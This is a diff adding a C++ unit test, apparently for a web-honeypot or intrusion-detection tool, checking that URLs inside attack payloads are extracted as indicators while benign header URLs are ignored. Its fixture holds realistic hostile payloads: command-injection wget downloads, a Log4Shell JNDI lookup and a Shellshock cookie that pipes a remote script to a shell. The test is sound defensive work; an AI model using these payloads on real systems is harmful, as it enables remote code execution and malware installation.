@@ -184,6 +184,29 @@ TEST(ModelTest, PayloadUrlsBecomeUrlAttributesForIds) {
   }
 }
 
+// A URL counts when it is part of the attack: in the target, the body, or a header's command or
+// lookup. A URL that merely is a header value (a scanner's home page in its User-Agent, a search
+// in a Referer, an Origin) is no payload and never an IDS indicator.
+TEST(ModelTest, UrlsInHeadersArePayloadsOnlyInsideACommandOrLookup) {
+  core::Event e = testutil::event("hp-web-01", testutil::kRce, testutil::kDay, "POST",
+                                  "/cgi-bin/x?cmd=wget%20http://45.61.185.23/x86%2Barm.sh",
+                                  {testutil::rule(932100, "Remote Command Execution")});
+  e.request_headers = {
+      {"Host", "shop.example.com"},
+      {"User-Agent",
+       "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
+      {"Referer", "https://www.google.com/search?q=shop"},
+      {"Origin", "https://origin.example.org"},
+      {"Content-Type", "Application/X-WWW-Form-Urlencoded; charset=utf-8"},
+      {"X-Api-Version", "v1 https://docs.example.org/ ${jndi:ldap://45.61.185.24:1389/b}"},
+      {"Cookie", "() { :; }; /bin/bash -c 'curl http://45.61.185.25/s.sh|sh'"}};
+  e.request_body = "c=wget+http://45.61.185.26/a%2Bb.sh";
+  const Evidence ev = evidenceOf(e, FoldOptions{});
+  EXPECT_THAT(ev.payload_urls,
+              ::testing::ElementsAre("http://45.61.185.23/x86+arm.sh", "http://45.61.185.26/a+b.sh",
+                                     "ldap://45.61.185.24:1389/b", "http://45.61.185.25/s.sh"));
+}
+
 TEST(ModelTest, HttpRequestObjectsFollowTheTemplateAndAreBounded) {
   auto cat = testutil::catalog();
   std::vector<core::Event> many;
